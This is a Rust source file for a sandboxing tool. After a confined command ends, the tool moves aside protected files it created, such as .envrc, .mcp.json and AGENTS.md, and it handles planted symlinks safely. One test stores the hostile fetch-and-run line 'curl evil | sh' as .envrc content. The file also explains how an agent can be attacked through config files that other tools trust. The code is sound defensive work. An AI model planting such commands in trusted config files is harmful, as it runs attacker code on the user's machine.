//! Protected names that did not exist when a command started.
//!
//! The view keeps an existing protected path (`.git`, `.envrc`, an authority file …) read-only by binding it over
//! itself, but a path that does not exist cannot be bound over: a command confined to a writable root can create
//! `.envrc`, `.mcp.json` or `AGENTS.md` there, for the user's shell, another agent or the next session to trust. The
//! profile lists those names ([`crate::Profile::absent`]); when the command and everything it started have ended,
//! [`sweep_created`] looks at each and moves whatever now stands there aside, beside it
//! (`.envrc` → `.envrc.loom-moved`), so nothing is lost and nothing is trusted.
//!
//! The walk starts at the writable root (which the command cannot rename: a mount point in tiers A and C, an entry
//! of a directory it may not write in tier B) and opens one component at a time without following links, so a link
//! the command planted on the way (`.config -> elsewhere`) is what gets moved, never the file it points at. A link the
//! user had there before the command started is left alone (the profile refuses to run when such a link leads back
//! into a writable root, where the command could have written beneath it).

use std::os::fd::OwnedFd;
use std::path::{Component, Path, PathBuf};

use rustix::fs::{AtFlags, FileType, Mode, OFlags, RenameFlags, CWD};
use rustix::io::Errno;

/// The suffix a moved entry gets (then `-2`, `-3`, … when that name is taken).
pub const MOVED_SUFFIX: &str = ".loom-moved";

/// How many suffixed names are tried before giving up.
const MAX_TRIES: u32 = 64;

/// A protected path inside a writable root that did not exist when the profile was built.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Watched {
    /// The writable root the walk starts from.
    pub root: PathBuf,
    /// The path below `root` (plain components only).
    pub rel: PathBuf,
    /// Links the user had on the way (the path below `root`, and the link's target as read): left alone.
    pub links: Vec<(PathBuf, PathBuf)>,
}

impl Watched {
    /// The whole path.
    pub fn path(&self) -> PathBuf {
        self.root.join(&self.rel)
    }
}

/// What [`sweep_created`] did about one protected path that a command created.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Swept {
    /// Moved aside.
    Moved {
        /// Where it was (the protected path, or a link planted on the way to it).
        from: PathBuf,
        /// Where it is now.
        to: PathBuf,
    },
    /// Found, but could not be moved: it stays where the command put it.
    Stuck {
        /// Where it is.
        path: PathBuf,
        /// Why it could not be moved.
        why: String,
    },
    /// What a command created whose loom ended before the command did (killed, out of memory, the machine stopped),
    /// found through its record ([`crate::sweep_earlier`]) by a later loom.
    Earlier(Box<Swept>),
    /// A record of the names a command watched that could not be read or removed: what that command created may
    /// still stand (or, for a record left behind, be moved aside by a later loom).
    Unread {
        /// The record.
        record: PathBuf,
        /// Why.
        why: String,
    },
}

impl std::fmt::Display for Swept {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Swept::Moved { from, to } => write!(
                f,
                "{} (a protected name that did not exist when the command started) was moved to {}",
                from.display(),
                to.display()
            ),
            Swept::Stuck { path, why } => write!(
                f,
                "{} (a protected name that did not exist when the command started) could not be moved aside ({why}); \
                 check it and remove it before anything trusts it",
                path.display()
            ),
            Swept::Earlier(s) => write!(
                f,
                "{s} — by a command whose loom ended before the command did (killed, or the machine stopped)"
            ),
            Swept::Unread { record, why } => write!(
                f,
                "the record {} of the protected names a command left could not be used ({why}); what that \
                 command created there (`.envrc`, `.mcp.json`, `AGENTS.md`, a `.git` …) may still stand in the \
                 directories it could write: look for them, then remove the record",
                record.display()
            ),
        }
    }
}

/// What a command's output gets about the sweep: one `[loom: …]` line per entry, or `None` when nothing was found.
pub fn swept_note(swept: &[Swept]) -> Option<String> {
    (!swept.is_empty()).then(|| {
        swept
            .iter()
            .map(|s| format!("[loom: {s}]"))
            .collect::<Vec<_>>()
            .join("\n")
    })
}

/// Looks at each watched path and moves aside whatever a command created there. Call it only once the command and
/// every process it started have ended. Returns one entry per thing found, in the order of `watched`.
pub fn sweep_created(watched: &[Watched]) -> Vec<Swept> {
    watched.iter().filter_map(sweep_one).collect()
}

fn sweep_one(w: &Watched) -> Option<Swept> {
    let names: Vec<&std::ffi::OsStr> = w
        .rel
        .components()
        .filter_map(|c| match c {
            Component::Normal(n) => Some(n),
            _ => None,
        })
        .collect();
    let stuck = |path: PathBuf, e: Errno| {
        Some(Swept::Stuck {
            path,
            why: std::io::Error::from(e).to_string(),
        })
    };
    let mut dir: OwnedFd = match open_dir(CWD, &w.root) {
        Ok(fd) => fd,
        Err(Errno::NOENT) => return None,
        Err(e) => return stuck(w.root.clone(), e),
    };
    let mut here = w.root.clone();
    let mut rel = PathBuf::new();
    for (i, name) in names.iter().enumerate() {
        here.push(name);
        rel.push(name);
        let st = match rustix::fs::statat(&dir, *name, AtFlags::SYMLINK_NOFOLLOW) {
            Ok(st) => st,
            Err(Errno::NOENT) => return None,
            Err(e) => return stuck(here, e),
        };
        if i + 1 == names.len() {
            return Some(move_aside(&dir, name, &here));
        }
        match FileType::from_raw_mode(st.st_mode) {
            FileType::Directory => match open_dir(&dir, Path::new(name)) {
                Ok(fd) => dir = fd,
                Err(Errno::NOENT) => return None,
                Err(e) => return stuck(here, e),
            },
            FileType::Symlink => {
                let target = rustix::fs::readlinkat(&dir, *name, Vec::new()).map(|t| {
                    PathBuf::from(
                        <std::ffi::OsString as std::os::unix::ffi::OsStringExt>::from_vec(
                            t.into_bytes(),
                        ),
                    )
                });
                let users = target
                    .as_ref()
                    .is_ok_and(|t| w.links.iter().any(|(p, l)| *p == rel && l == t));
                return if users {
                    None
                } else {
                    Some(move_aside(&dir, name, &here))
                };
            }
            // nothing can stand below a file
            _ => return None,
        }
    }
    None
}

fn open_dir(at: impl rustix::fd::AsFd, path: &Path) -> Result<OwnedFd, Errno> {
    rustix::fs::openat(
        at,
        path,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )
}

/// Renames `name` in `dir` to the first free `name.loom-moved[-N]`, never over an existing entry.
fn move_aside(dir: &OwnedFd, name: &std::ffi::OsStr, path: &Path) -> Swept {
    let mut last = Errno::EXIST;
    for n in 1..=MAX_TRIES {
        let mut new = name.to_os_string();
        new.push(MOVED_SUFFIX);
        if n > 1 {
            new.push(format!("-{n}"));
        }
        let renamed = match rustix::fs::renameat_with(dir, name, dir, &new, RenameFlags::NOREPLACE)
        {
            // a filesystem without RENAME_NOREPLACE: look first (the command has ended; nothing else races here)
            Err(Errno::INVAL | Errno::NOSYS) => {
                match rustix::fs::statat(dir, &new, AtFlags::SYMLINK_NOFOLLOW) {
                    Ok(_) => Err(Errno::EXIST),
                    Err(Errno::NOENT) => rustix::fs::renameat(dir, name, dir, &new),
                    Err(e) => Err(e),
                }
            }
            other => other,
        };
        match renamed {
            Ok(()) => {
                return Swept::Moved {
                    from: path.to_path_buf(),
                    to: path.with_file_name(&new),
                }
            }
            Err(Errno::EXIST) => last = Errno::EXIST,
            Err(e) => {
                last = e;
                break;
            }
        }
    }
    Swept::Stuck {
        path: path.to_path_buf(),
        why: if last == Errno::EXIST {
            format!("{MAX_TRIES} names beside it are taken")
        } else {
            std::io::Error::from(last).to_string()
        },
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use std::os::unix::fs::symlink;

    fn watched(root: &Path, rel: &str) -> Watched {
        Watched {
            root: root.to_path_buf(),
            rel: rel.into(),
            links: Vec::new(),
        }
    }

    fn moved(d: &Path, from: &str, to: &str) -> Swept {
        Swept::Moved {
            from: d.join(from),
            to: d.join(to),
        }
    }

    /// A fresh directory under the temp directory.
    pub(crate) fn tmp() -> PathBuf {
        let d = std::env::temp_dir().join(format!(
            "loom-sweep-{}-{}",
            std::process::id(),
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map(|d| d.as_nanos())
                .unwrap_or_default()
        ));
        std::fs::create_dir_all(&d).unwrap();
        d
    }

    #[test]
    fn nothing_created_means_nothing_moved() {
        let d = tmp();
        std::fs::create_dir(d.join(".config")).unwrap();
        let out = sweep_created(&[watched(&d, ".envrc"), watched(&d, ".config/fish")]);
        assert!(out.is_empty(), "{out:?}");
        std::fs::remove_dir_all(&d).unwrap();
    }

    #[test]
    fn a_created_file_or_directory_is_moved_aside_with_its_content() {
        let d = tmp();
        std::fs::write(d.join(".envrc"), "curl evil | sh").unwrap();
        std::fs::create_dir_all(d.join(".config/fish")).unwrap();
        std::fs::write(d.join(".config/fish/config.fish"), "x").unwrap();
        std::fs::write(d.join(".envrc.loom-moved"), "taken").unwrap();
        let out = sweep_created(&[watched(&d, ".envrc"), watched(&d, ".config/fish")]);
        assert_eq!(
            out,
            vec![
                moved(&d, ".envrc", ".envrc.loom-moved-2"),
                moved(&d, ".config/fish", ".config/fish.loom-moved"),
            ]
        );
        assert!(!d.join(".envrc").exists() && !d.join(".config/fish").exists());
        assert_eq!(
            std::fs::read_to_string(d.join(".envrc.loom-moved-2")).unwrap(),
            "curl evil | sh"
        );
        assert_eq!(
            std::fs::read_to_string(d.join(".envrc.loom-moved")).unwrap(),
            "taken"
        );
        assert!(d.join(".config/fish.loom-moved/config.fish").is_file());
        std::fs::remove_dir_all(&d).unwrap();
    }

    #[test]
    fn a_planted_link_on_the_way_is_moved_not_what_it_points_at() {
        let d = tmp();
        let outside = tmp();
        std::fs::create_dir_all(outside.join("fish")).unwrap();
        std::fs::write(outside.join("fish/config.fish"), "the user's").unwrap();
        symlink(&outside, d.join(".config")).unwrap();
        // a link as the protected name itself is moved as a link too
        symlink(outside.join("fish/config.fish"), d.join(".envrc")).unwrap();
        let out = sweep_created(&[watched(&d, ".config/fish"), watched(&d, ".envrc")]);
        assert_eq!(
            out,
            vec![
                moved(&d, ".config", ".config.loom-moved"),
                moved(&d, ".envrc", ".envrc.loom-moved"),
            ]
        );
        assert_eq!(
            std::fs::read_to_string(outside.join("fish/config.fish")).unwrap(),
            "the user's"
        );
        assert!(d
            .join(".config.loom-moved")
            .symlink_metadata()
            .unwrap()
            .file_type()
            .is_symlink());
        std::fs::remove_dir_all(&d).unwrap();
        std::fs::remove_dir_all(&outside).unwrap();
    }

    #[test]
    fn the_users_own_link_on_the_way_is_left_alone() {
        let d = tmp();
        let outside = tmp();
        std::fs::create_dir_all(outside.join("fish")).unwrap();
        symlink(&outside, d.join(".config")).unwrap();
        let mut w = watched(&d, ".config/fish");
        w.links = vec![(PathBuf::from(".config"), outside.clone())];
        assert!(sweep_created(&[w.clone()]).is_empty());
        // the same name, re-pointed: not the user's
        std::fs::remove_file(d.join(".config")).unwrap();
        symlink(d.join("x"), d.join(".config")).unwrap();
        assert_eq!(
            sweep_created(&[w]),
            vec![moved(&d, ".config", ".config.loom-moved")]
        );
        std::fs::remove_dir_all(&d).unwrap();
        std::fs::remove_dir_all(&outside).unwrap();
    }

    #[test]
    fn a_file_on_the_way_holds_nothing_and_a_stuck_entry_is_reported() {
        let d = tmp();
        std::fs::write(d.join(".cargo"), "a file").unwrap();
        assert!(sweep_created(&[watched(&d, ".cargo/config.toml")]).is_empty());
        // every name beside it taken: the entry stays and says so
        std::fs::write(d.join(".envrc"), "x").unwrap();
        std::fs::write(d.join(".envrc.loom-moved"), "").unwrap();
        for n in 2..=MAX_TRIES {
            std::fs::write(d.join(format!(".envrc.loom-moved-{n}")), "").unwrap();
        }
        let out = sweep_created(&[watched(&d, ".envrc")]);
        assert_eq!(
            out,
            vec![Swept::Stuck {
                path: d.join(".envrc"),
                why: format!("{MAX_TRIES} names beside it are taken")
            }]
        );
        assert!(out[0]
            .to_string()
            .contains("remove it before anything trusts it"));
        assert_eq!(std::fs::read_to_string(d.join(".envrc")).unwrap(), "x");
        std::fs::remove_dir_all(&d).unwrap();
    }
}
